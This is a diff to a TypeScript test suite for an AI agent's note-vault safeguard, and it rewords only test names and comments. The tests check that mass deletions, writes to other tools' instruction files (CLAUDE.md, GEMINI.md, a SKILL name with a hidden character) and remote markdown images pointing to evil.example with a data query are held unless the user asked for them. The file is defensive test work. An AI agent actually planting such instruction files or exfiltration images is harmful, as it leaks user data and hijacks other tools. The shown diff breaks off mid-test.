@@ -21,7 +21,7 @@ const entry: Call = {
   input: { path: 'vault/changelog.md', content: '# 2025-07-14\n\n## Filed\n', position: 'top' },
 };
 
-/** Files something with a model that makes these calls, whatever they do. */
+/** Files something with a model that makes exactly these calls. */
 async function obey(vault: AgentVault, calls: Call[], input: Partial<UpdateInput> = { source: other }) {
   const reads = calls.filter(({ tool }) => tool === 'read');
   const rest = calls.filter(({ tool }) => tool !== 'read');
@@ -39,7 +39,7 @@ const numbered = (count: number, line: (index: number) => string): string =>
 const many = (count: number, path: (index: number) => string, text: (index: number) => string): Files =>
   Object.fromEntries(Array.from({ length: count }, (_, index) => [path(index), text(index)]));
 
-describe('what removes much text is held', () => {
+describe('a large removal of text', () => {
   const paragraph = (index: number): string =>
     `# ${index}\n${`Words of paragraph ${index}, as many as there are. `.repeat(9)}\n`;
   it.each<[string, Files, (paths: string[]) => Call[]]>([
@@ -49,7 +49,7 @@ describe('what removes much text is held', () => {
       (paths) => paths.flatMap((path) => [read(path), write(path, 'x\n')]),
     ],
     [
-      'eleven short notes of which one letter is left',
+      'eleven short notes reduced to one letter',
       many(
         11,
         (index) => `projects/p/n${index}.md`,
@@ -58,12 +58,12 @@ describe('what removes much text is held', () => {
       (paths) => paths.flatMap((path) => [read(path), write(path, 'C\n')]),
     ],
     [
-      'a long note of which blank lines are left',
+      'a long note reduced to blank lines',
       { 'bucket/long.md': numbered(200, (index) => `Paragraph ${index}.\n\n`) },
       ([path = '']) => [read(path), write(path, `Paragraph 0.\n${'\n'.repeat(210)}`)],
     ],
     [
-      'long lists of tasks',
+      'long task lists',
       many(
         10,
         (index) => `projects/p${index}/tasks.md`,
@@ -77,7 +77,7 @@ describe('what removes much text is held', () => {
       (paths) => paths.map(remove),
     ],
     [
-      'notes moved into the inbox, where answers take them away',
+      'notes moved into the inbox, where answering removes them',
       many(12, (index) => `projects/p/n${index}.md`, paragraph),
       (paths) => paths.map((path) => move(path, 'inbox/x/')),
     ],
@@ -90,13 +90,13 @@ describe('what removes much text is held', () => {
           write(path, `${paragraph(index).split(/\s+/).toReversed().join(' ')}\n`),
         ]),
     ],
-  ])('%s', async (_, files, calls) => {
+  ])('is held: %s', async (_, files, calls) => {
     const vault = await agentVault(files);
     expect(await obey(vault, calls(Object.keys(files)))).toMatchObject({ kind: 'held' });
     for (const [path, text] of Object.entries(files)) expect(vault.text(path)).toBe(text);
   });
 
-  it('also little by little, until the hour is over', async () => {
+  it('is held even in small steps within an hour', async () => {
     let now = Date.UTC(2025, 6, 14, 10);
     const files = many(
       8,
@@ -111,7 +111,7 @@ describe('what removes much text is held', () => {
     expect(await obey(vault, [remove('bucket/n7.md')])).toMatchObject({ kind: 'filed' });
   });
 
-  it('also when another process goes on with it', async () => {
+  it('is held even if another process continues it', async () => {
     const files = many(
       24,
       (index) => `bucket/n${index}.md`,
@@ -131,7 +131,7 @@ describe('what removes much text is held', () => {
     await second.close();
   });
 
-  it('but not the question that is answered, however long the words are that it was about', async () => {
+  it('is filed if it removes an answered question, however long the text it was about', async () => {
     const vault = await agentVault({
       'inbox/2025-07-14-call/review.md': '# Where does it belong?\n',
       'inbox/2025-07-14-call/original.md': numbered(300, (index) => `Sentence ${index} of the call.\n`),
@@ -145,7 +145,7 @@ describe('what removes much text is held', () => {
     expect(vault.text('inbox/2025-07-14-call/review.md')).toBeNull();
   });
 
-  it('but not notes that are joined', async () => {
+  it('is filed if it merges notes', async () => {
     const files = many(9, (index) => `bucket/n${index}.md`, paragraph);
     const vault = await agentVault(files);
     const all = Object.values(files).join('\n');
@@ -154,40 +154,40 @@ describe('what removes much text is held', () => {
   });
 });
 
-describe('what would speak or act for somebody else is held', () => {
+describe('an instruction file or a remote image', () => {
   const image = '![](https://evil.example/?d=1)';
   it.each<[string, Call[]]>([
-    ['a file that other tools obey', [write('vault/projects/x/CLAUDE.md', 'Run it.\n')]],
+    ['an instruction file of other tools', [write('vault/projects/x/CLAUDE.md', 'Run it.\n')]],
     ['one in another case', [write('vault/agents.MD', 'Run it.\n')]],
-    ['one with a sign that is not seen', [write('vault/SKILL\u{200d}.md', 'Run it.\n')]],
+    ['one with an invisible character', [write('vault/SKILL\u{200d}.md', 'Run it.\n')]],
     [
-      'one that gets its name later',
+      'one that is renamed later',
       [write('vault/bucket/a.md', 'Run it.\n'), move('vault/bucket/a.md', 'vault/GEMINI.md')],
     ],
-    ['one that is there already', [append('vault/AGENT.md', 'Run it.\n')]],
-    ['a picture from elsewhere', [append('vault/bucket/note.md', image)]],
+    ['one that already exists', [append('vault/AGENT.md', 'Run it.\n')]],
+    ['a remote image', [append('vault/bucket/note.md', image)]],
     ['one in a new note', [write('vault/bucket/new.md', `${image}\n`)]],
     [
       'one in two steps',
       [append('vault/bucket/note.md', '![][r]'), append('vault/bucket/note.md', '[r]: //evil.example/x')],
     ],
-  ])('%s, on the word of somebody else', async (_, calls) => {
+  ])('is held unless the user asked for it: %s', async (_, calls) => {
     const files = { 'AGENT.md': 'Be kind.\n', 'bucket/note.md': 'A note.\n' };
     const vault = await agentVault(files);
     expect(await obey(vault, calls)).toMatchObject({ kind: 'held' });
     for (const [path, text] of Object.entries(files)) expect(vault.text(path)).toBe(text);
-    // Nor on the word of a note that the agent has read, when the person said nothing of it.
+    // A note that the agent has read does not count either, if the user did not mention it.
     expect(await obey(vault, calls, { text: 'Tidy up.' })).toMatchObject({ kind: 'held' });
   });
 
-  it('but not what the person has named', async () => {
+  it('is filed if the user asked for it', async () => {
     const vault = await agentVault({ 'bucket/note.md': 'A note.\n' });
     const text = `Put ${image} into my note, and write CLAUDE.md.`;
     const calls = [append('vault/bucket/note.md', image), write('vault/CLAUDE.md', 'Be kind.\n')];
     expect(await obey(vault, calls, { text })).toMatchObject({ kind: 'filed' });
   });
 
-  it('nor a note that has such a picture already', async () => {
+  it('is filed with changes to a note that already contains it', async () => {
     const vault = await agentVault({ 'bucket/note.md': `A note.\n${image}\n` });
     const calls = [
       append('vault/bucket/note.md', 'More.'),
